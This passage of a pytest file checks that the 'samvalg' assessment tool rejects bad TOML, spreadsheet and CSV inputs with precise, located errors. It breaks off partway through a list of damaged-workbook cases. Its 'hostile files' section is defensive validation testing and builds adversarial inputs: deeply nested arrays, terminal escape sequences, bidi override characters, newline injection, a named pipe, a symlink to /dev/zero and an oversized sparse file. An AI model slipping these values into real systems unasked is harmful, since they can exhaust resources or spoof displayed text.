"""The bad-input catalogue: every mistake a user can put in a file gives a located, specific error.

Each case is a small file written to a temporary folder and run through

* the Python API: :func:`samvalg.load_assessment` raises :class:`~samvalg.errors.ValidationError`
  with a :class:`~samvalg.errors.Problem` at the expected location (key path, ``line L, column C``
  or ``sheet!cell``) whose message and ``allowed`` contain the expected words;
* the CLI (``samvalg validate FILE``, ``samvalg evaluate FILE`` and, when present,
  ``samvalg brief --assessment FILE``): exit code 2, stderr names the file and the location,
  never a traceback;

and the file's bytes and modification time are unchanged afterwards.

Run ``python tests/test_bad_inputs.py`` to print the number of cases by kind.
"""

from __future__ import annotations

import functools
import hashlib
import sys
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

sys.path.insert(0, str(Path(__file__).parent))

from _assessment_cases import GAINS, MODEL, STRATEGY, Data, ahp, cell, delete, put, rename, valid
from _bad_files import to_toml

NAME = "vurdering.toml"

LONN = "services.lonn"
ED = f"{LONN}.scores.egen_drift"
VK = f'{LONN}.scores."vertskommune:melhus"'
KO = f"{LONN}.scores.oppgavefellesskap"


@dataclass(frozen=True)
class Case:
    """One bad file.

    ``write(folder)`` writes it and returns its path. ``location`` is matched exactly, or as a
    prefix when it ends with ``"*"`` (line/column locations). ``words`` must all occur in the
    problem's ``message (allowed: ...)``.
    """

    id: str
    kind: str
    source: Callable[[Any], Any]
    location: str
    words: tuple[str, ...]
    n_problems: int | None = None
    route: str = "file"
    """``"file"``: load_assessment and the CLI; ``"csv"``: samvalg.io.read_csv into the valid
    assessment (service lonn, set strategy): the CLI has no route for a single matrix."""

    def write(self, folder: Path) -> Path:
        if getattr(self.source, "writes_file", False):
            return self.source(folder)
        return edited(self.source)(folder)


# -- file makers ------------------------------------------------------------------------------


def raw(data: bytes, name: str = NAME) -> Callable[[Path], Path]:
    def write(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(data)
        return path

    write.writes_file = True  # type: ignore[attr-defined]
    return write


def edited(change: Callable[[Data], Any]) -> Callable[[Path], Path]:
    """The valid assessment with one change, as a TOML file."""

    def write(folder: Path) -> Path:
        data = valid()
        change(data)
        return raw(to_toml(data).encode("utf-8"))(folder)

    write.writes_file = True  # type: ignore[attr-defined]
    return write


def text_edit(old: str, new: str, count: int = 1) -> Callable[[Path], Path]:
    """The valid assessment's TOML text with ``old`` replaced by ``new``."""

    def write(folder: Path) -> Path:
        text = to_toml(valid())
        assert old in text, old
        return raw(text.replace(old, new, count).encode("utf-8"))(folder)

    write.writes_file = True  # type: ignore[attr-defined]
    return write


def appended(extra: str) -> Callable[[Path], Path]:
    def write(folder: Path) -> Path:
        return raw((to_toml(valid()) + extra).encode("utf-8"))(folder)

    write.writes_file = True  # type: ignore[attr-defined]
    return write


# -- changes to the valid dict ------------------------------------------------------------------


def only_options(service: str, options: list[str]) -> Callable[[Data], None]:
    def change(d: Data) -> None:
        svc = d["services"][service]
        template = svc["scores"]["oppgavefellesskap"]
        svc["options"] = list(options)
        svc["scores"] = {o: dict(svc["scores"].get(o, template)) for o in options}

    return change


ONES5 = [[1.0] * 5 for _ in range(5)]
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00"
ZIP = b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + bytes(range(256))


CASES: list[Case] = [
    # ---- the file itself ------------------------------------------------------------------
    Case(
        "unclosed string",
        "malformed TOML",
        raw(b'schema_version = 1\n[meta]\ntitle = "Vurdering\n'),
        "line 3, column*",
        ("malformed TOML",),
    ),
    Case(
        "key without value",
        "malformed TOML",
        raw(b"schema_version = 1\n[meta]\ntitle\n"),
        "line 3, column*",
        ("malformed TOML",),
    ),
    Case(
        "unclosed array at the end",
        "malformed TOML",
        raw(b'schema_version = 1\n[services.lonn]\noptions = ["egen_drift",\n'),
        "line 3, end of the file",
        ("malformed TOML", "not closed"),
    ),
    Case(
        "unclosed table header",
        "malformed TOML",
        text_edit("[services.lonn]", "[services.lonn"),
        "line *",
        ("malformed TOML",),
    ),
    Case(
        "score with a decimal comma",
        "malformed TOML",
        text_edit("\nfagmiljo = 4\n", "\nfagmiljo = 3,5\n"),
        "line *",
        ("malformed TOML",),
    ),
    Case("empty file", "empty file", raw(b""), "", ("empty",)),
    Case("whitespace only", "empty file", raw(b"  \n\t\n\n"), "", ("empty",)),
    Case(
        "comments only",
        "empty file",
        raw(b"# vurdering kommer\n# TODO\n"),
        "schema_version",
        ("missing",),
    ),
    Case(
        "png image renamed .toml",
        "binary garbage",
        raw(PNG),
        "line 1, column 1",
        ("not UTF-8", "0x89"),
    ),
    Case("zip archive renamed .toml", "binary garbage", raw(ZIP), "line *", ("not UTF-8",)),
    Case(
        "NUL bytes",
        "binary garbage",
        raw(b"schema_version = 1\x00\x00\x00\n"),
        "line 1*",
        ("malformed TOML",),
    ),
    Case(
        "latin-1 text",
        "non-UTF-8",
        raw('schema_version = 1\n[meta]\ntitle = "Lønn"\n'.encode("latin-1")),
        "line 3, column 11",
        ("not UTF-8", "0xf8", "UTF-8"),
    ),
    Case(
        "UTF-16 text",
        "non-UTF-8",
        raw('schema_version = 1\n[meta]\ntitle = "x"\n'.encode("utf-16")),
        "line 1, column 1",
        ("not UTF-8", "0xff"),
    ),
    Case(
        "unsupported suffix",
        "file type",
        raw(b'{"schema_version": 1}', "vurdering.json"),
        "",
        ("unsupported file type", ".toml"),
    ),
    # ---- keys -----------------------------------------------------------------------------
    Case(
        "top-level typo servises",
        "unknown top-level key",
        rename([], "services", "servises"),
        "servises",
        ("unknown top-level key", "did you mean 'services'"),
    ),
    Case(
        "top-level typo weight",
        "unknown top-level key",
        rename([], "weights", "weight"),
        "weight",
        ("unknown top-level key", "did you mean 'weights'"),
    ),
    Case(
        "top-level extra key",
        "unknown top-level key",
        put(["version"], 2),
        "version",
        ("unknown top-level key", "schema_version"),
    ),
    Case(
        "meta key typo",
        "unknown key",
        rename(["meta"], "title", "titel"),
        "meta.titel",
        ("unknown key 'titel'", "did you mean 'title'"),
    ),
    Case(
        "cell key typo",
        "unknown key",
        cell("egen_drift", "fagmiljo", {"value": 3, "rationel": "x"}),
        f"{ED}.fagmiljo.rationel",
        ("did you mean 'rationale'",),
    ),
    Case(
        "schema_version unsupported",
        "wrong type or value",
        put(["schema_version"], 2),
        "schema_version",
        ("unsupported schema_version 2",),
    ),
    Case(
        "options as text",
        "wrong type or value",
        put(["services", "lonn", "options"], "egen_drift, iks"),
        f"{LONN}.options",
        ("list",),
    ),
    Case(
        "meta illustrative as text",
        "wrong type or value",
        put(["meta", "illustrative"], "ja"),
        "meta.illustrative",
        ("true or false", '"ja"'),
    ),
    # ---- ids ------------------------------------------------------------------------------
    Case(
        "unknown criterion in a score table",
        "unknown id",
        rename(["services", "lonn", "scores", "egen_drift"], "fagmiljo", "fagmilj"),
        f"{ED}.fagmilj",
        ("unknown criterion 'fagmilj'", "did you mean 'fagmiljo'"),
    ),
    Case(
        "unknown service area",
        "unknown id",
        rename(["services"], "lonn", "lønn"),
        'services."lønn"',
        ("unknown service area", "did you mean 'lonn'"),
    ),
    Case(
        "unknown form",
        "unknown id",
        put(["services", "lonn", "options", 2], "oppgavefelesskap"),
        f"{LONN}.options[2]",
        ("unknown cooperation form", "did you mean 'oppgavefellesskap'"),
    ),
    Case(
        "unknown host municipality",
        "unknown id",
        put(["services", "lonn", "options", 1], "vertskommune:melhys"),
        f"{LONN}.options[1]",
        ("unknown host municipality", "did you mean 'melhus'"),
    ),
    Case(
        "unknown criteria set in scales",
        "unknown id",
        rename(["scales"], "gains", "gevinst"),
        "scales.gevinst",
        ("unknown criteria set", "strategy, gains, model"),
    ),
    Case(
        "unknown criterion in points",
        "unknown id",
        rename(["weights", "strategy", "points"], "demografi", "demograf"),
        "weights.strategy.points.demograf",
        ("unknown criterion", "did you mean 'demografi'"),
    ),
    # ---- hosts ----------------------------------------------------------------------------
    Case(
        "host on a form without host",
        "host",
        put(["services", "lonn", "options", 2], "oppgavefellesskap:skaun"),
        f"{LONN}.options[2]",
        ("has no host",),
    ),
    Case(
        "host missing",
        "host",
        put(["services", "lonn", "options", 1], "vertskommune"),
        f"{LONN}.options[1]",
        ("needs a host", "vertskommune:melhus"),
    ),
    Case(
        "empty host",
        "host",
        put(["services", "lonn", "options", 1], "vertskommune:"),
        f"{LONN}.options[1]",
        ("not an option id", "form:host"),
    ),
    # ---- scores ---------------------------------------------------------------------------
    Case(
        "score above the scale",
        "score value",
        cell("egen_drift", "fagmiljo", 6),
        f"{ED}.fagmiljo",
        ("6 is outside the scale 1..5", "1 to 5"),
    ),
    Case(
        "score below the scale",
        "score value",
        cell("egen_drift", "demografi", 0),
        f"{ED}.demografi",
        ("0 is outside the scale",),
    ),
    Case(
        "negative score on 1..5",
        "score value",
        cell("egen_drift", "demografi", -3),
        f"{ED}.demografi",
        ("-3 is outside the scale",),
    ),
    Case(
        "huge score",
        "score value",
        cell("egen_drift", "demografi", 10**30),
        f"{ED}.demografi",
        ("outside the scale",),
    ),
    Case(
        "non-numeric score",
        "score value",
        cell("egen_drift", "fagmiljo", "tre"),
        f"{ED}.fagmiljo",
        ('"tre"', "expected a number"),
    ),
    Case(
        "score as a date",
        "score value",
        text_edit("\nfagmiljo = 4\n", "\nfagmiljo = 2026-01-01\n"),
        f"{ED}.fagmiljo",
        ("expected a number",),
    ),
    Case(
        "NaN score",
        "score value",
        cell("egen_drift", "fagmiljo", float("nan")),
        f"{ED}.fagmiljo",
        ("nan", "finite"),
    ),
    Case(
        "infinite score",
        "score value",
        cell("egen_drift", "fagmiljo", float("inf")),
        f"{ED}.fagmiljo",
        ("inf", "finite"),
    ),
    Case(
        "minus infinite low",
        "score value",
        cell("egen_drift", "fagmiljo", {"value": 3, "low": float("-inf"), "high": 4}),
        f"{ED}.fagmiljo.low",
        ("inf",),
    ),
    Case(
        "boolean score",
        "score value",
        cell("egen_drift", "fagmiljo", True),
        f"{ED}.fagmiljo",
        ("boolean true",),
    ),
    Case(
        "plus-minus label out of range",
        "score value",
        cell("vertskommune:melhus", "likeverdighet", "+++++"),
        f"{VK}.likeverdighet",
        ('"+++++"', "pluss-minus"),
    ),
    Case(
        "model criterion scored for egen_drift",
        "score value",
        cell("egen_drift", "likeverdighet", "+"),
        f"{ED}.likeverdighet",
        ("not a formal cooperation form", '"na"'),
    ),
    Case(
        "low above high",
        "uncertainty",
        cell("egen_drift", "fagmiljo", {"value": 3, "low": 4, "high": 2}),
        f"{ED}.fagmiljo",
        ("low 4 is above high 2", "low <= value <= high"),
    ),
    Case(
        "value outside its interval",
        "uncertainty",
        cell("egen_drift", "fagmiljo", {"value": 5, "low": 2, "high": 4}),
        f"{ED}.fagmiljo.value",
        ("outside its uncertainty interval",),
    ),
    Case(
        "high outside the scale",
        "uncertainty",
        cell("egen_drift", "fagmiljo", {"value": 3, "low": 2, "high": 7}),
        f"{ED}.fagmiljo.high",
        ("7 is outside the scale",),
    ),
    # ---- missing --------------------------------------------------------------------------
    Case(
        "missing scores listed at once",
        "missing scores",
        delete(
            ["services", "lonn", "scores", "egen_drift", "fagmiljo"],
            ["services", "lonn", "scores", "egen_drift", "demografi"],
            ["services", "lonn", "scores", "egen_drift", GAINS[2]],
            ["services", "lonn", "scores", "egen_drift", MODEL[5]],
        ),
        ED,
        ("4 missing scores", "fagmiljo", "demografi", GAINS[2], MODEL[5]),
        n_problems=1,
    ),
    Case(
        "missing scores in two services",
        "missing scores",
        delete(
            ["services", "lonn", "scores", "egen_drift", "fagmiljo"],
            ["services", "byggesak", "scores", "oppgavefellesskap", STRATEGY[0]],
        ),
        "services.byggesak.scores.oppgavefellesskap",
        ("1 missing score", STRATEGY[0]),
        n_problems=2,
    ),
    Case(
        "an option's scores missing",
        "missing scores",
        delete(["services", "lonn", "scores", "oppgavefellesskap"]),
        f"{LONN}.scores",
        ("no scores for option 'oppgavefellesskap'", "28 cells"),
    ),
    Case("meta missing", "missing scores", delete(["meta"]), "meta", ("[meta]", "missing")),
    Case(
        "services missing", "missing scores", delete(["services"]), "services", ("missing", "lonn")
    ),
    # ---- duplicates -----------------------------------------------------------------------
    Case(
        "duplicate option",
        "duplicate id",
        lambda d: d["services"]["lonn"]["options"].append("egen_drift"),
        f"{LONN}.options[3]",
        ("duplicate option 'egen_drift'", "options[0]"),
    ),
    Case(
        "duplicate criterion key in a score table",
        "duplicate id",
        text_edit("\nfagmiljo = 4\n", "\nfagmiljo = 4\nfagmiljo = 5\n"),
        "line *",
        ("malformed TOML", "'fagmiljo'", "given twice"),
    ),
    Case(
        "duplicate service table",
        "duplicate id",
        appended('\n[services.lonn]\noptions = ["egen_drift", "iks"]\n'),
        "line *",
        ("malformed TOML", "[services.lonn]", "declared twice"),
    ),
    Case(
        "duplicate criterion in the AHP list",
        "duplicate id",
        ahp(ONES5, [*GAINS[:4], GAINS[1]]),
        "weights.gains.criteria[4]",
        ("listed twice",),
    ),
    # ---- weights --------------------------------------------------------------------------
    Case(
        "negative points",
        "negative weight",
        put(["weights", "strategy", "points", "fagmiljo"], -5),
        "weights.strategy.points.fagmiljo",
        ("negative weight -5", ">= 0"),
    ),
    Case(
        "negative direct weight",
        "negative weight",
        put(
            ["weights", "gains"],
            {"method": "direct", "values": {**dict.fromkeys(GAINS, 0.2), GAINS[3]: -0.1}},
        ),
        f"weights.gains.values.{GAINS[3]}",
        ("negative weight",),
    ),
    Case(
        "negative set weight",
        "negative weight",
        put(["weights", "sets", "points", "model"], -30),
        "weights.sets.points.model",
        ("negative weight -30",),
    ),
    Case(
        "points all zero",
        "weights sum to zero",
        put(["weights", "strategy", "points"], dict.fromkeys(STRATEGY, 0)),
        "weights.strategy.points",
        ("all values are 0",),
    ),
    Case(
        "set weights all zero",
        "weights sum to zero",
        put(
            ["weights", "sets"],
            {"method": "points", "points": {"strategy": 0, "gains": 0, "model": 0}},
        ),
        "weights.sets.points",
        ("all values are 0",),
    ),
    Case(
        "direct weights all zero",
        "weights sum to zero",
        put(["weights", "gains"], {"method": "direct", "values": dict.fromkeys(GAINS, 0.0)}),
        "weights.gains.values",
        ("all values are 0",),
    ),
    Case(
        "points do not sum to the total",
        "points total",
        put(["weights", "sets", "points", "model"], 25),
        "weights.sets.points",
        ("sum to 95", "total = 100"),
    ),
    Case(
        "points total not positive",
        "points total",
        put(["weights", "sets", "total"], 0),
        "weights.sets.total",
        ("positive",),
    ),
    # ---- AHP ------------------------------------------------------------------------------
    Case(
        "AHP not square",
        "AHP",
        ahp([[1.0] * 5, [1.0] * 4, *ONES5[2:]]),
        "weights.gains.matrix[1]",
        ("4 entries", "square"),
    ),
    Case(
        "AHP wrong size",
        "AHP",
        ahp([[1.0] * 4 for _ in range(4)]),
        "weights.gains.matrix",
        ("4 rows", "5 x 5"),
    ),
    Case(
        "AHP negative judgment",
        "AHP",
        ahp([[1, -3, 1, 1, 1], *ONES5[1:]]),
        "weights.gains.matrix[0][1]",
        ("positive",),
    ),
    Case(
        "AHP zero judgment",
        "AHP",
        ahp([[1, 0, 1, 1, 1], [0, 1, 1, 1, 1], *ONES5[2:]]),
        "weights.gains.matrix[0][1]",
        ("positive",),
    ),
    Case(
        "AHP not reciprocal",
        "AHP",
        ahp([[1, 3, 1, 1, 1], [3, 1, 1, 1, 1], *ONES5[2:]]),
        "weights.gains.matrix[1][0]",
        ("not reciprocal", "1/3"),
    ),
    Case(
        "AHP text judgment",
        "AHP",
        ahp([[1, "tre", 1, 1, 1], *ONES5[1:]]),
        "weights.gains.matrix[0][1]",
        ('"tre"', "fraction"),
    ),
    Case(
        "AHP diagonal not 1",
        "AHP",
        ahp([[1, 1, 1, 1, 1], [1, 2, 1, 1, 1], *ONES5[2:]]),
        "weights.gains.matrix[1][1]",
        ("diagonal must be 1",),
    ),
    # ---- ranking --------------------------------------------------------------------------
    Case(
        "ranking with an unknown criterion",
        "ranking",
        put(["weights", "model", "ranking", 0], "styring"),
        "weights.model.ranking[0]",
        ("unknown criterion", "did you mean 'styringsstruktur'"),
    ),
    Case(
        "ranking with a repeated criterion",
        "ranking",
        put(["weights", "model", "ranking", 4], MODEL[0]),
        "weights.model.ranking[4]",
        ("ranked twice", "weights.model.ranking[0]"),
    ),
    Case(
        "ranking with a criterion left out",
        "ranking",
        lambda d: d["weights"]["model"]["ranking"].pop(),
        "weights.model.ranking",
        ("1 not ranked", MODEL[-1]),
    ),
    # ---- options --------------------------------------------------------------------------
    Case(
        "a single option",
        "single option",
        only_options("lonn", ["vertskommune:melhus"]),
        f"{LONN}.options",
        ("at least 2 options", "found 1"),
    ),
    Case(
        "no options",
        "single option",
        only_options("lonn", []),
        f"{LONN}.options",
        ("at least 2 options", "found 0"),
    ),
]


# -- hostile files (issue 10): nesting, control characters, things that are not files ----------
# A control character in a key is checked in tests/test_text_safety.py (its location holds the
# character itself, which the CLI prints escaped).


def special(make: Callable[[Path], None], name: str = NAME) -> Callable[[Path], Path]:
    """A path that `make` turns into something other than an ordinary small file."""

    def write(folder: Path) -> Path:
        path = folder / name
        make(path)
        return path

    write.writes_file = True  # type: ignore[attr-defined]
    return write


def _fifo(path: Path) -> None:
    import os

    os.mkfifo(path)


def _symlink_to_device(path: Path) -> None:
    path.symlink_to("/dev/zero")


def _oversized(path: Path) -> None:
    with path.open("wb") as fh:  # sparse: 21 MB on paper, nothing on disk
        fh.truncate(21 * 1024 * 1024)


DEEP_HEADER = ".".join(["deep"] * 40)
HOSTILE_CASES: list[Case] = [
    Case(
        "arrays nested 1000 levels deep",
        "deeply nested",
        appended("\ndeep = " + "[" * 1000 + "]" * 1000 + "\n"),
        "",
        ("nest too deep", "32 levels"),
    ),
    Case(
        "arrays nested 100 000 levels deep",
        "deeply nested",
        appended("\ndeep = " + "[" * 100_000 + "]" * 100_000 + "\n"),
        "",
        ("nest too deep",),
    ),
    Case(
        "table header 40 levels deep",
        "deeply nested",
        appended(f"\n[{DEEP_HEADER}]\nx = 1\n"),
        ".".join(["deep"] * 32),
        ("more than 32 levels",),
        n_problems=1,
    ),
    Case(
        "inline tables 40 levels deep in a cell",
        "deeply nested",
        cell("egen_drift", "fagmiljo", functools.reduce(lambda v, _: {"value": v}, range(40), 3)),
        f"{ED}.fagmiljo" + ".value" * 27,
        ("more than 32 levels",),
    ),
    Case(
        "escape sequence in the title",
        "control character",
        put(["meta", "title"], "Vurdering \x1b[31mRØD\x1b[0m"),
        "meta.title",
        ("U+001B", "control character", "printable text"),
    ),
    Case(
        "line break in the title",
        "control character",
        put(["meta", "title"], "Lønn\n# Hack"),
        "meta.title",
        ("U+000A",),
    ),
    Case(
        "tab in an author",
        "control character",
        put(["meta", "authors"], ["Kari\tNordmann"]),
        "meta.authors[0]",
        ("U+0009",),
    ),
    Case(
        "bidi override in a rationale",
        "control character",
        cell("egen_drift", "fagmiljo", {"value": 3, "rationale": "ok \u202egnirts"}),
        f"{ED}.fagmiljo.rationale",
        ("U+202E", "RIGHT-TO-LEFT OVERRIDE"),
    ),
    Case(
        "bidi isolate in an option id",
        "control character",
        put(["services", "lonn", "options", 0], "egen_drift\u2066"),
        f"{LONN}.options[0]",
        ("U+2066",),
    ),
    Case(
        "C1 control in the description",
        "control character",
        put(["meta", "description"], "Linje\x85to"),
        "meta.description",
        ("U+0085",),
    ),
    Case(
        "DEL written as a TOML escape",
        "control character",
        text_edit('title = "Testvurdering"', 'title = "Test\\u007Fvurdering"'),
        "meta.title",
        ("U+007F",),
    ),
    Case(
        "bare carriage return in a rationale",
        "control character",
        cell("egen_drift", "fagmiljo", {"value": 3, "rationale": "Alt vel\rAlt galt"}),
        f"{ED}.fagmiljo.rationale",
        ("U+000D",),
    ),
    Case(
        "a named pipe",
        "not a regular file",
        special(_fifo),
        "",
        ("named pipe", "not a regular file", "regular .toml file"),
    ),
    Case(
        "a symlink to /dev/zero",
        "not a regular file",
        special(_symlink_to_device),
        "",
        ("a device", "not a regular file"),
    ),
    Case("a folder named .toml", "not a regular file", special(Path.mkdir), "", ("a folder",)),
    Case("a 21 MB file", "too large", special(_oversized), "", ("21.0 MB", "20 MB")),
]
CASES += HOSTILE_CASES


# -- spreadsheets -------------------------------------------------------------------------------
# The workbook of `samvalg template` filled from the valid assessment: sheet lonn has the id row
# at 4 and one row per criterion x option from row 5 (column D the score, E low, F high, I the
# criterion id, J the option id): D5 = egen_drift, D6 = vertskommune:melhus,
# D7 = oppgavefellesskap on okonomi_effektivisering. vekter_gains holds the AHP matrix in
# F12:J16, vekter_strategy the points in C12:C23, meta the title in C5.


@functools.cache
def _template_bytes() -> bytes:
    import tempfile

    from samvalg import load_assessment
    from samvalg.io import write_template

    with tempfile.TemporaryDirectory() as tmp:
        path = write_template(
            Path(tmp) / "t.xlsx", assessment=load_assessment(valid()), services=["lonn"]
        )
        return path.read_bytes()


def workbook(change: Callable[[Any], Any], name: str = "skaring.xlsx") -> Callable[[Path], Path]:
    """The template workbook with one change made in openpyxl."""

    def write(folder: Path) -> Path:
        import io

        import openpyxl

        wb = openpyxl.load_workbook(io.BytesIO(_template_bytes()))
        change(wb)
        path = folder / name
        wb.save(path)
        return path

    write.writes_file = True  # type: ignore[attr-defined]
    return write


def set_cells(sheet: str, **cells: Any) -> Callable[[Any], None]:
    def change(wb: Any) -> None:
        for coord, v in cells.items():
            wb[sheet][coord] = v

    return change


def drop_sheets(*names: str) -> Callable[[Any], None]:
    def change(wb: Any) -> None:
        for n in names:
            del wb[n]

    return change


def rename_sheet(old: str, new: str) -> Callable[[Any], None]:
    def change(wb: Any) -> None:
        wb[old].title = new

    return change


def merge(sheet: str, cells: str) -> Callable[[Any], None]:
    def change(wb: Any) -> None:
        wb[sheet].merge_cells(cells)

    return change


XLSX_CASES: list[Case] = [
    Case(
        "xlsx: text in a score cell",
        "spreadsheet: text in a number cell",
        workbook(set_cells("lonn", D5="tre")),
        "lonn!D5",
        ('"tre"', "expected a number"),
    ),
    Case(
        "xlsx: NaN text in a score cell",
        "spreadsheet: text in a number cell",
        workbook(set_cells("lonn", D6="NaN")),
        "lonn!D6",
        ('"NaN"', "expected a number"),
    ),
    Case(
        "xlsx: decimal comma as text",
        "spreadsheet: text in a number cell",
        workbook(set_cells("lonn", D7="2,5")),
        "lonn!D7",
        ('"2,5"',),
    ),
    Case(
        "xlsx: text in an AHP cell",
        "spreadsheet: text in a number cell",
        workbook(set_cells("vekter_gains", G12="to")),
        "vekter_gains!G12",
        ('"to"',),
    ),
    Case(
        "xlsx: text in a points cell",
        "spreadsheet: text in a number cell",
        workbook(set_cells("vekter_strategy", C12="mye")),
        "vekter_strategy!C12",
        ('"mye"',),
    ),
    Case(
        "xlsx: score outside the scale",
        "spreadsheet: value",
        workbook(set_cells("lonn", D5=9)),
        "lonn!D5",
        ("9 is outside the scale",),
    ),
    Case(
        "xlsx: low above high",
        "spreadsheet: value",
        workbook(set_cells("lonn", D5=3, E5=4, F5=2)),
        "lonn!D5",
        ("low 4 is above high 2",),
    ),
    Case(
        "xlsx: empty score cell",
        "spreadsheet: missing",
        workbook(set_cells("lonn", D5=None)),
        "lonn!D5",
        ("no score for option 'egen_drift'",),
    ),
    Case(
        "xlsx: formula in a score cell",
        "spreadsheet: value",
        workbook(set_cells("lonn", D5="=2+1")),
        "lonn!D5",
        ("formula",),
    ),
    Case(
        "xlsx: AHP not reciprocal",
        "spreadsheet: value",
        workbook(set_cells("vekter_gains", F13=3)),
        "vekter_gains*",
        ("not reciprocal",),
    ),
    Case(
        "xlsx: negative points",
        "spreadsheet: value",
        workbook(set_cells("vekter_strategy", C12=-5)),
        "vekter_strategy!C12",
        ("negative weight",),
    ),
    Case(
        "xlsx: merged score cells",
        "spreadsheet: merged cells",
        workbook(merge("lonn", "D5:D6")),
        "lonn!D5",
        ("merged cells D5:D6", "unmerge"),
    ),
    Case(
        "xlsx: merged id cells",
        "spreadsheet: merged cells",
        workbook(merge("lonn", "I8:J9")),
        "lonn!I8",
        ("merged cells",),
    ),
    Case(
        "xlsx: meta sheet missing",
        "spreadsheet: missing sheet",
        workbook(drop_sheets("meta")),
        "meta",
        ("sheet 'meta' is missing",),
    ),
    Case(
        "xlsx: no service sheet",
        "spreadsheet: missing sheet",
        workbook(drop_sheets("lonn")),
        "*",
        ("no service area sheet",),
    ),
    Case(
        "xlsx: misspelt service sheet",
        "spreadsheet: unknown id",
        workbook(rename_sheet("lonn", "lønn")),
        "lønn",
        ("unknown sheet", "did you mean 'lonn'"),
    ),
    Case(
        "xlsx: unknown option id",
        "spreadsheet: unknown id",
        workbook(set_cells("lonn", J5="egen_drfit")),
        "lonn!J5",
        ("did you mean 'egen_drift'",),
    ),
    Case(
        "xlsx: duplicate row",
        "spreadsheet: duplicate id",
        workbook(set_cells("lonn", J6="egen_drift")),
        "lonn!D6",
        ("a second row",),
    ),
    Case(
        "xlsx: cleared id cell",
        "spreadsheet: missing",
        workbook(set_cells("lonn", I5=None)),
        "lonn!I5",
        ("missing criterion id",),
    ),
    Case(
        "xlsx: title cleared",
        "spreadsheet: missing",
        workbook(set_cells("meta", C5=None)),
        "meta*",
        ("title",),
    ),
    Case(
        "xlsx: not a workbook",
        "spreadsheet: not a workbook",
        raw(b"option,fagmiljo\negen_drift,3\n", "skaring.xlsx"),
        "",
        ("not a readable .xlsx workbook",),
    ),
    Case(
        "xlsx: empty file",
        "spreadsheet: not a workbook",
        raw(b"", "skaring.xlsx"),
        "",
        ("not a readable",),
    ),
    Case(
        "a CSV given as an assessment",
        "spreadsheet: not a workbook",
        raw(b"option,fagmiljo\negen_drift,3\n", "lonn.csv"),
        "",
        ("one score matrix", "read_csv"),
    ),
]
CASES += XLSX_CASES

CSV_HEADER = "option," + ",".join(STRATEGY)
CSV_ROWS = {
    o: [str(1 + (2 * i + j) % 5) for j in range(len(STRATEGY))]
    for i, o in enumerate(("egen_drift", "vertskommune:melhus", "oppgavefellesskap"))
}


def csv_file(
    change: Callable[[list[list[str]]], Any] = lambda rows: None, encoding: str = "utf-8"
) -> Callable[[Path], Path]:
    """A score matrix of lonn x strategy as CSV; `change` edits the rows (row 0 the header)."""

    def write(folder: Path) -> Path:
        rows = [CSV_HEADER.split(","), *([o, *v] for o, v in CSV_ROWS.items())]
        change(rows)
        text = "\n".join(",".join(r) for r in rows) + "\n"
        return raw(text.encode(encoding), "lonn_strategy.csv")(folder)

    write.writes_file = True  # type: ignore[attr-defined]
    return write


def csv_cell(row: int, col: int, value: str) -> Callable[[list[list[str]]], None]:
    def change(rows: list[list[str]]) -> None:
        rows[row][col] = value

    return change


FAGMILJO_COL = 1 + STRATEGY.index("fagmiljo")
CSV_CASES: list[Case] = [
    Case(
        "csv: text in a score cell",
        "spreadsheet: text in a number cell",
        csv_file(csv_cell(1, FAGMILJO_COL, "tre")),
        'row 2, column "fagmiljo"',
        ('"tre"', "expected a number"),
        route="csv",
    ),
    Case(
        "csv: nan in a score cell",
        "spreadsheet: text in a number cell",
        csv_file(csv_cell(2, FAGMILJO_COL, "nan")),
        'row 3, column "fagmiljo"',
        ('"nan"',),
        route="csv",
    ),
    Case(
        "csv: score outside the scale",
        "spreadsheet: value",
        csv_file(csv_cell(3, FAGMILJO_COL, "7")),
        'row 4, column "fagmiljo"',
        ("7 is outside the scale",),
        route="csv",
    ),
    Case(
        "csv: empty score cell",
        "spreadsheet: missing",
        csv_file(csv_cell(1, FAGMILJO_COL, "")),
        'row 2, column "fagmiljo"',
        ("no score for 'egen_drift'",),
        route="csv",
    ),
    Case(
        "csv: misspelt criterion column",
        "spreadsheet: unknown id",
        csv_file(csv_cell(0, FAGMILJO_COL, "fagmilj")),
        'row 1, column "fagmilj"',
        ("unknown column", "did you mean 'fagmiljo'"),
        route="csv",
    ),
    Case(
        "csv: unknown option",
        "spreadsheet: unknown id",
        csv_file(csv_cell(2, 0, "vertskommune:melhys")),
        'row 3, column "option"',
        ("did you mean 'vertskommune:melhus'",),
        route="csv",
    ),
    Case(
        "csv: duplicate option row",
        "spreadsheet: duplicate id",
        csv_file(csv_cell(2, 0, "egen_drift")),
        'row 3, column "option"',
        ("a second row", "row 2"),
        route="csv",
    ),
    Case(
        "csv: an option's row missing",
        "spreadsheet: missing",
        csv_file(lambda rows: rows.pop()),
        "",
        ("no row for option oppgavefellesskap",),
        route="csv",
    ),
    Case(
        "csv: ragged row",
        "spreadsheet: malformed",
        csv_file(lambda rows: rows[1].append("3")),
        "row 2",
        ("cells but the header has",),
        route="csv",
    ),
    Case(
        "csv: UTF-16",
        "spreadsheet: non-UTF-8",
        csv_file(csv_cell(1, 0, "egen_drift"), encoding="utf-16"),
        "row 1",
        ("not UTF-8",),
        route="csv",
    ),
]
CASES += CSV_CASES


# -- hostile, damaged and oversized workbooks (issue 10) ----------------------------------------
# Built by editing the template's zip archive directly (tests/_hostile_workbooks.py); each fails
# before openpyxl loads it, or as one problem naming what openpyxl could not read.

import _hostile_workbooks as hostile  # noqa: E402


def built(edit: Callable[[bytes], bytes], name: str = "skaring.xlsx") -> Callable[[Path], Path]:
    """The template workbook's bytes changed by `edit` (built when the case runs)."""

    def write(folder: Path) -> Path:
        path = folder / name
        path.write_bytes(edit(_template_bytes()))
        return path

    write.writes_file = True  # type: ignore[attr-defined]
    return write


def sparse(size: int, name: str) -> Callable[[Path], Path]:
    """A file of `size` zero bytes that takes no disk space."""

    def write(folder: Path) -> Path:
        path = folder / name
        with path.open("wb") as f:
            f.truncate(size)
        return path

    write.writes_file = True  # type: ignore[attr-defined]
    return write


HOSTILE_XLSX_CASES: list[Case] = [
    Case(
        "xlsx: truncated sheet XML",
        "spreadsheet: damaged",
        built(hostile.truncated()),
        "lonn",
        ("not well-formed XML", "cut short"),
    ),
    Case(
